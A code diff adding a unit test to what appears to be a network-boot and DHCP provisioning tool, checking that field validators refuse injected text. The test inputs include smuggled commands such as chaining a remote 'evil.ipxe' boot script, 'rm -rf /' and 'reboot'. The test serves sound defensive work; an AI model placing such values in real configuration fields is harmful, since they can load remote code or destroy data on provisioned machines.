@@ -70,6 +70,19 @@ describe('values bound for shell lines and boot loader scripts', () => {
     }
   });
 
+  it('refuses text bound for kernel command lines and DHCP that would end its word (issue 16)', () => {
+    refused(systemFields, 'server', '192.0.2.1/x || chain http://203.0.113.9/evil.ipxe', /not an IPv4/);
+    refused(settingFields, 'next_server', '192.0.2.1 x', /not an IPv4/);
+    refused(systemFields, 'serial_device', '0 || chain x', /white space/);
+    refused(systemFields, 'autoinstall', 'http://192.0.2.1/ks;reboot', /";"/);
+    refused(settingFields, 'dhcp_domain', 'lab.example; rm -rf /', /not valid/);
+    refused(settingFields, 'dhcp_dns_servers', '192.0.2.53,2001:db8::53', /not a valid IPv4/);
+    refused(interfaceFields, 'cnames', 'www;reboot', /not valid/);
+    refused(interfaceFields, 'dhcp_tag', 'lab,set:known', /a tag may hold/);
+    assert.equal(parseFieldValue(field(systemFields, 'serial_device'), '0'), '0');
+    assert.equal(parseFieldValue(field(systemFields, 'autoinstall'), 'sample.ks'), 'sample.ks');
+  });
+
   it('refuses any host name, DNS name or interface name with a shell character, whatever else it holds', () => {
     const shellCharacter = fc.constantFrom(
       ';',
